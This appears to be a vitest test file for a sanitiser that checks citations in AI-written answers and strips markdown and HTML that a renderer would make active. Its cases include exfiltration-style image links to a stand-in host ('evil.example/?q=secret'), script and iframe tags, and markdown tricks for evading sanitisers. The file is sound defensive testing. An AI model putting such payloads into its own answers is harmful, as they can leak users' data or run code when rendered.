import fc from "fast-check";
import { marked } from "marked";
import { describe, expect, it } from "vitest";
import { AnswerText } from "../../../src/answers/answer-text.ts";
import type { Source } from "../../../src/answers/source.ts";

const source = (n: number, startLine: number, endLine: number): Source => ({
  n,
  chunkId: `chk_${n}`,
  path: `f${n}.ts`,
  startLine,
  endLine,
  lines: Array.from({ length: endLine - startLine + 1 }, () => "x"),
});
const SOURCES = [source(1, 10, 20), source(2, 1, 5)];

function read(text: string, cut: number[] = []) {
  const answer = new AnswerText(SOURCES);
  let out = "";
  let at = 0;
  for (const length of cut) {
    out += answer.push(text.slice(at, at + length));
    at += length;
  }
  out += answer.push(text.slice(at));
  out += answer.end();
  expect(out).toBe(answer.text);
  return { text: out, citations: answer.citations, dropped: answer.dropped };
}

/** What of the text a renderer would make active: elements that fetch, lead away or run. */
function active(text: string): string[] {
  const html = marked.parse(text, { async: false, gfm: true });
  const passive =
    /^<\/?(?:p|em|strong|code|pre|ul|ol|li|h\d|blockquote|hr|br|del|table|thead|tbody|tr|th|td|input)\b/;
  return (html.match(/<\/?[a-z!?][^>]*>?/gi) ?? []).filter((tag) => !passive.test(tag));
}

describe("citations in an answer", () => {
  it("stay where they hold, clamped to the lines that were shown", () => {
    expect(read("A [1:12-14]. B [2:3]. C [1:18-90]. D [2].")).toMatchObject({
      text: "A [1:12-14]. B [2:3-3]. C [1:18-20]. D [2:1-5].",
      dropped: 0,
      citations: [
        { n: 1, path: "f1.ts", startLine: 12, endLine: 14 },
        { n: 2, path: "f2.ts", startLine: 3, endLine: 3 },
        { n: 1, path: "f1.ts", startLine: 18, endLine: 20 },
        { n: 2, path: "f2.ts", startLine: 1, endLine: 5 },
      ],
    });
  });

  it("are taken out and counted where they name what was not shown", () => {
    expect(read("A [3:1-2]. B [1:21-30]. C [0:1-5]. D [1:1-9]. E [9].")).toMatchObject({
      text: "A . B . C . D . E .",
      dropped: 5,
      citations: [],
    });
  });

  it("may come in lists, with L, with a dash, backwards; each is listed once", () => {
    expect(read("[1:L12-L14; 2:5–4, 7:1-2] again[1:12-14]")).toMatchObject({
      text: "[1:12-14; 2:4-5] again[1:12-14]",
      dropped: 1,
      citations: [
        { n: 1, startLine: 12, endLine: 14 },
        { n: 2, startLine: 4, endLine: 5 },
      ],
    });
  });

  it("are not looked for in code, nor where something is indexed", () => {
    const text = "`a[1:12-14]` and rows[0] or rows[1:12]\n```ts\nx[2:1-3] = [1];\n```\n";
    expect(read(text)).toMatchObject({ text, dropped: 0, citations: [] });
  });

  it("are found however the answer is cut into parts", () => {
    const text = "One [1:12-14], `two[2]` [2:1-99]\n```\n[1]\n```\nthree [7:1-2] ![x](http://e.example/a)";
    const whole = read(text);
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: 4 }), { maxLength: 90 }), (cut) => {
        expect(read(text, cut)).toEqual(whole);
      }),
    );
  });
});

describe("what an answer shows", () => {
  it.each([
    ["an image", "![a](https://evil.example/?q=secret)"],
    ["a link", "[a](https://evil.example)"],
    ["a citation as a link", "[1:12-14](https://evil.example)"],
    ["a reference", "[a][b]\n\n[b]: https://evil.example"],
    ["an image by reference", "![a][b]\n\n[b]: //evil.example/x.png 'title'"],
    ["a collapsed reference", "![b][]\n\n[b]:\n//evil.example/x.png"],
    ["an autolink", "<https://evil.example>"],
    ["a mail autolink", "<a@evil.example>"],
    ["a bare address", "see https://evil.example/a and www.evil.example and HTTP://evil.example"],
    ["an element", '<img src="//evil.example/x.png">'],
    ["an element over lines", '<img\nsrc="//evil.example/x.png"\n>'],
    ["a script", "<script>alert(1)</script>"],
    ["a comment and more", "<!-- --><iframe src=x></iframe>"],
    ["a span that was closed before", "x ` y\nz ` ![a](//evil.example) ` w"],
    ["a span with other marks", "x `` y ` z `` ![a](//evil.example) ` w"],
    ["an escaped backtick", "\\`![a](//evil.example)`"],
    ["an escaped bracket", "\\[a](//evil.example) [a\\](//evil.example)"],
    ["a fence that is none", "a ``` b\n![a](//evil.example)"],
    ["a fence with a backtick in its name", "```a`b\n![a](//evil.example)\n```"],
    ["a fence that closed", "```\nx\n```\n![a](//evil.example)"],
    ["a fence in a list", "- ```\n![a](//evil.example)\n"],
    ["a link around a span", "[`x`](//evil.example)"],
    ["a list of tasks", "- [x](//evil.example)"],
  ])("holds nothing active of %s", (_name, text) => {
    expect(active(read(text).text)).toEqual([]);
  });

  it("would otherwise: the test sees what is active", () => {
    for (const text of [
      "![a](//e.example)",
      "<https://e.example>",
      "www.e.example",
      "a@e.example",
      "<b onclick=x>",
    ]) {
      expect(active(text).length).toBeGreaterThan(0);
    }
  });

  it("holds nothing active, whatever a model writes", () => {
    const pieces = [
      ..."`~[]()<>!:\\\n \t*_-#>1|",
      ..."``` ~~~ `` \n\n \n```\n ![a](//e.x/) [b]: https://e.x <img <a www. http :// [1:12-14] \\` /> <!-- --> ```js".split(
        " ",
      ),
      "a",
      "@",
      "x.y",
      "    ",
      "<div>",
      "</div>",
      "\r\n",
    ];
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...pieces), { maxLength: 30 }),
        fc.array(fc.integer({ min: 1, max: 5 }), { maxLength: 20 }),
        (parts, cut) => {
          expect(active(read(parts.join(""), cut).text)).toEqual([]);
        },
      ),
      { numRuns: Number(process.env["ANSWER_RUNS"] ?? 3_000) },
    );
  }, 60_000);

  it("leaves prose and code as they are", () => {
    const text =
      "# Title\n\n- `Map<string>` holds *all*; `a` & `b`\n- if a < b: x, y (z) e.g. http: or std::vector\n\n" +
      '```html\n<a href="https://x.example">[y](z)</a>\n```\n\n| a | b |\n| - | - |\n| 1 | 2 |\n';
    expect(read(text).text).toBe(text);
  });
});
